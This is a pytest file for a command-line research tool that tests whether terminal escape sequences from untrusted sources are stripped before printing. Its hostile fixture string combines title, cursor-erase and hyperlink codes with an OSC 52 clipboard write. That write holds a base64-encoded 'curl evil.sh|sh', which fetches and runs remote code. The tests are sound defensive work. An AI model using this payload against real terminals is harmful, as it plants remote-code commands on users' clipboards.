"""Text from outside never reaches a terminal with its control sequences: a window title (OSC 0), a write
to the clipboard (OSC 52), an erased line and a cursor moved up, fed through every command that prints
what a model, a search endpoint, a web page, a server's error or a file of a pull request says."""

from __future__ import annotations

import json

import pytest

from conftest import fake_panel
from fakeserver import Action
from test_fetch import Raw

# A title, a clipboard write, a line erased and the cursor moved up over it (7-bit and 8-bit forms), a
# device control string.
HOSTILE = ("\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\\x1b[2K\x1b[1A\x9b2K\x9b1A\x1bP+q\x1b\\"
           "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\r")


def shown(*results) -> str:
    return "".join(r.stdout + r.stderr for r in results)


def assert_clean(*results) -> None:
    out = shown(*results)
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out, repr(out[-600:])


@pytest.fixture
def raw():
    server = Raw()
    yield server
    server.close()


def test_search_results_and_their_frozen_pages_print_no_escape(project, raw):
    page = (f"<html><head><title>T{HOSTILE}</title></head><body><article><p>The swarm's bus runs at 48 V "
            f"{HOSTILE} across every unit of the swarm.</p></article></body></html>").encode()
    raw.page("/page", page)
    # A header holds no ESC (h11 refuses it) but may hold the 8-bit CSI.
    raw.routes["/moved"] = "HTTP/1.1 302 Found\r\nLocation: /page?\x9b2K\x9b1A\r\nContent-Length: 0\r\n\r\n".encode(
        "latin-1")
    results = [{"url": f"{raw.url}/moved", "title": f"Survey {HOSTILE}", "content": f"flywheel {HOSTILE}"},
               {"url": f"https://example.org/{HOSTILE}", "title": HOSTILE, "description": HOSTILE}]
    raw.page("/search", json.dumps({"results": results}).encode(), "application/json")
    project.write_panels(f"    x:\n      members: [{{id: a, model: offline/a}}]\nsearch: {{url: '{raw.url}', "
                         "kind: searxng}\n")
    found = project.cli("sources", "search", "swarm-power", "flywheel", "--add", "1", "--allow-private")
    assert found.exit_code == 0, found.output
    assert "Survey" in found.stdout and "flywheel" in found.stdout
    added = project.cli("sources", "add", "swarm-power", f"{raw.url}/moved", "--allow-private")
    assert added.exit_code == 0, added.output
    assert_clean(found, added)
    frozen = "".join(p.read_text() for p in (project.root / "sources" / "swarm-power").glob("*.md"))
    assert "48 V" in frozen and "\x1b" not in frozen and "\x9b" not in frozen


def test_errors_that_quote_what_they_were_given_print_no_escape(project, raw):
    tail = HOSTILE.replace("\r", "")
    missing = project.cli("sources", "add", "swarm-power", f"{raw.url}/missing{tail}", "--allow-private")
    assert missing.exit_code == 2 and "404" in missing.stderr, missing.output
    unknown = project.cli("show", f"swarm{tail}")
    assert unknown.exit_code == 2, unknown.output
    assert_clean(missing, unknown)


def test_a_search_endpoints_error_prints_no_escape(project, raw):
    raw.routes["/search"] = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n{HOSTILE}: x\r\n\r\n{{".encode(
        "latin-1")
    project.write_panels(f"    x:\n      members: [{{id: a, model: offline/a}}]\nsearch: {{url: '{raw.url}', "
                         "kind: searxng}\n")
    result = project.cli("sources", "search", "swarm-power", "flywheel")
    assert result.exit_code == 2, result.output
    assert_clean(result)


def test_model_replies_and_a_servers_errors_print_no_escape(project, fake):
    fake.script("alpha", Action(text=f"Distribute at 48 V. {HOSTILE}"))
    fake.script("beta", Action(status=500, text=f"upstream broke {HOSTILE}"), Action(status=500, text=HOSTILE),
                Action(status=500, text=HOSTILE))
    project.write_panels(fake_panel(fake.url, settings="{retryBaseDelay: 0.0, attempts: 3}"))
    ran = project.cli("run", "swarm-power", "--panel", "fake", "--rounds", "1", "--conclude")
    assert ran.exit_code in (0, 1), ran.output
    assert "upstream broke" in shown(ran) or "500" in shown(ran)
    asked = project.cli("ask", "Which bus voltage?", "--panel", "fake", "--rounds", "1")
    later = [project.cli(*args) for args in (["show", "swarm-power"], ["show", "swarm-power", "--full"],
                                             ["verdict", "swarm-power"], ["status"])]
    assert_clean(ran, asked, *later)


def test_a_pull_requests_files_print_no_escape(project, fake):
    project.write_panels(fake_panel(fake.url, settings="{retryBaseDelay: 0.0}"))
    assert project.cli("run", "swarm-power", "--panel", "fake", "--rounds", "1", "--conclude").exit_code == 0
    for path in project.folder.rglob("*.md"):  # a pull request can put any byte in any file
        text = path.read_text()
        body = text.index("\n---\n", 4) + 5
        path.write_text(text[:body] + HOSTILE + "\n" + text[body:])
    results = [project.cli(*args) for args in (["show", "swarm-power"], ["show", "swarm-power", "--full"],
                                               ["verdict", "swarm-power"], ["status"], ["verify"])]
    assert "link" in shown(*results)  # the hyperlink's text, what is left of the escapes, was printed
    assert_clean(*results)
